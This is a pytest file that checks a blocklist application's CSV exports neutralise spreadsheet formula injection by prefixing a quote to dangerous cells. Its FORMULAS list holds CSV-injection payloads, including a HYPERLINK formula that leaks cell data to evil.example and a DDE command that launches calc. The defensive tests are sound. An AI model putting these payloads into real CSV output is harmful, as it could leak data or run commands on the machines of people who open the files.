"""Every CSV the project writes keeps a formula in a reason as text (CSV injection)."""

from __future__ import annotations

import csv
import io
from ipaddress import ip_network

import pytest

from app.core.actor import Actor
from app.core.csv_text import safe_cell
from app.extensions import db
from app.listing import blocklist
from tests.helpers import T0
from tests.helpers_admin import signed_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    "-2+3",
]
# Reasons are stored trimmed, so a leading tab or CR reaches a file only through other cells.
CONTROL_STARTS = ["\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS + CONTROL_STARTS)
def test_a_cell_that_starts_like_a_formula_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["203.0.113.0/24", "2001:db8::/32", "2026-03-02T09:00:00+00:00", "Spam trap", 17, None]
)
def test_real_values_read_as_they_are(value):
    assert safe_cell(value) == value


def _reasons(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [row.get("reason") or row.get("detail") or "" for row in rows]


def test_no_export_carries_a_live_formula(app, runner, tmp_path):
    with app.app_context():
        for n, reason in enumerate(FORMULAS):
            network = ip_network(f"198.51.100.{n}/32")
            blocklist.add_listing(network, reason, actor=Actor("t"), now=T0)
        db.session.commit()
    out = tmp_path / "list.csv"
    assert (
        runner.invoke(
            args=["blocklist", "export", "--format", "csv", "--output", str(out)]
        ).exit_code
        == 0
    )
    admin = signed_in(app)
    files = {
        "cli": out.read_text(),
        "admin export": admin.get("/admin/export.csv").text,
        "audit": admin.get("/admin/audit.csv?action=listing.added").text,
    }
    for name, text in files.items():
        cells = _reasons(text)
        # Stripped of their quote, the cells are the reasons as given (nothing lost).
        assert sorted(cell[1:] for cell in cells) == sorted(FORMULAS), name
        assert all(cell.startswith("'") for cell in cells), name
